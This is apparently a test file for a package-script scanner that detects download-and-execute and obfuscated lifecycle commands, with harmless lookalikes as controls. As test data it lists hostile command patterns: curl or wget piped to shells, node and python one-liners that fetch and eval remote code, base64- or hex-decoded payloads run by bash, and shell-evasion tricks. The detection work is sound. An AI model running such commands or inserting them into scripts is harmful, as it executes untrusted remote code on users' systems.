import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { scanScript } from "../src/policy-scripts.ts";

const BLOB = "Y29uc29sZS5sb2coJ2hlbGxvJyk7".repeat(4);
const SHA512 =
  "sha512-dMInicTPVE8d1e5otfwmmjlxkZoUpiVLwyeTdUsi/Caj/gfzzblBcCE5sRHV/AsjuCmxWrte2TNGSYuCeCq+0Q==";

const DOWNLOAD_AND_EXECUTE = [
  "curl https://example.com/x.sh | sh",
  "curl -fsSL https://example.com/x.sh | sudo -E bash -",
  "wget -qO- https://example.com/x | tee log | bash",
  "curl -s https://example.com/x.gz | gunzip | /bin/sh",
  "curl -s https://example.com/x.js | node",
  "curl -s https://example.com/x.js | node -e 'eval(require(\"fs\").readFileSync(0).toString())'",
  'bash -c "$(curl -fsSL https://example.com/install.sh)"',
  'sh -c "curl -s https://example.com/x | sh"',
  "bash <(curl -s https://example.com/x)",
  "source <(wget -qO- https://example.com/x)",
  "eval `curl -s https://example.com/x`",
  "eval $(wget -qO- https://example.com/x)",
  "curl -o x.sh https://example.com/x.sh && sh x.sh",
  "curl https://example.com/x > x; chmod +x x; ./x",
  "wget https://example.com/x -O /tmp/x\nchmod 755 /tmp/x\n/tmp/x",
  "curl -o setup.js https://example.com/s.js && node ./setup.js",
  "curl -sL https://example.com/x -o ./run && ./run",
  "wget https://example.com/x \\\n  -O - | sh",
  "node -e \"require('https').get('https://example.com/x',r=>r.on('data',d=>eval(d.toString())))\"",
  "node -e \"fetch('https://example.com/x').then(r=>r.text()).then(t=>new Function(t)())\"",
  "node -e \"require('child_process').execSync('curl https://example.com/x | sh')\"",
  "python3 -c \"import urllib.request as u;exec(u.urlopen('http://example.com').read())\"",
];

const OBFUSCATED = [
  `node -e "eval(Buffer.from('${BLOB}','base64').toString())"`,
  "node -e \"eval(Buffer.from('636f6e73','hex').toString())\"",
  "node -e \"eval(atob('Y29uc29sZQ=='))\"",
  "node -e \"new Function(Buffer.from(x, 'base64'))()\"",
  "echo Y3VybCBleGFtcGxlLmNvbQ== | base64 -d | sh",
  "echo 6375726c | xxd -r -p | bash",
  'eval "$(echo Y3VybA== | base64 --decode)"',
  'node -e "\\x72\\x65\\x71\\x75\\x69\\x72\\x65"',
  'node -e "\\u0072\\u0065\\u0071\\u0075"',
  'node -e "eval(String.fromCharCode(99,111,110,115,111,108,101))"',
  'node -e "var _0x4f2a=[1];_0x4f2a[0]"',
  `node -e "${BLOB.repeat(3)}"`,
  `node -e "require('vm').runInThisContext(Buffer.from('${BLOB}', 'base64'))"`,
  "c''url https://example.com",
  "curl$IFS-s https://example.com",
];

/** Real lifecycle scripts of well-known packages, and things that only look alike. */
const HARMLESS = [
  "",
  "node-gyp rebuild",
  "node-gyp-build",
  "node-pre-gyp install --fallback-to-build",
  "prebuild-install || node-gyp rebuild",
  "prebuild-install --runtime napi || node-gyp rebuild --release",
  "husky install",
  "husky",
  "is-ci || husky install",
  "node install.js",
  "node ./scripts/postinstall.js",
  "node scripts/postinstall || echo done",
  "node -e \"try{require('./postinstall')}catch(e){}\"",
  "node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0",
  "opencollective-postinstall || true",
  "patch-package",
  "npm run build && npm run test",
  "npx only-allow pnpm",
  "tsc -p . && chmod +x dist/cli.js",
  "lerna bootstrap --hoist",
  "electron-builder install-app-deps",
  "(node ./download.js || true) && node ./check.js",
  "echo curl and bash are packages, too",
  "curl -o data.json https://example.com/data.json && node build.js",
  "curl -s https://example.com/version | jq -r .version",
  "curl -f https://example.com/x || echo offline",
  "npm install -g curl bash",
  "prefetch --all && sh build.sh",
  "node -e \"console.log('https://example.com thanks you')\"",
  `echo ${SHA512}`,
  `test "$(node -p integrity)" = "${SHA512}"`,
  "sha512sum -c <<< 679591c564c3bffaae8454cf0b3df370c3d6911c679591c564c3bffaae8454cf0b3df370c3d6911c",
];

describe("download and execute", () => {
  test.each(DOWNLOAD_AND_EXECUTE)("found: %s", (body) => {
    expect(scanScript(body).downloadAndExecute).toBe(true);
  });
});

describe("obfuscated", () => {
  test.each(OBFUSCATED)("found: %s", (body) => {
    expect(scanScript(body).obfuscated).toBe(true);
  });
});

describe("harmless", () => {
  test.each(HARMLESS)("passed: %s", (body) => {
    expect(scanScript(body)).toEqual({ downloadAndExecute: false, obfuscated: false });
  });
});

test("a script can't hide behind text around it", () => {
  const filler = fc.string({ maxLength: 200 }).map((s) => s.replaceAll("\\", ""));
  fc.assert(
    fc.property(filler, filler, (before, after) => {
      const body = `${before}\ncurl https://example.com/x | sh\n${after}`;
      expect(scanScript(body).downloadAndExecute).toBe(true);
    }),
  );
});

test("the longest script a plan holds is scanned without a blow-up", () => {
  // Quadratic matching would take minutes here and run into the test's own time limit.
  for (const unit of [
    "curl ",
    "node -e ",
    "eval $(",
    "a",
    "| sh",
    "sudo -x ",
    "Buffer.from(",
    "https:// eval( ",
    "curl -o x y;",
    "node x\n",
  ]) {
    scanScript(unit.repeat(Math.floor(65_536 / unit.length)));
  }
});
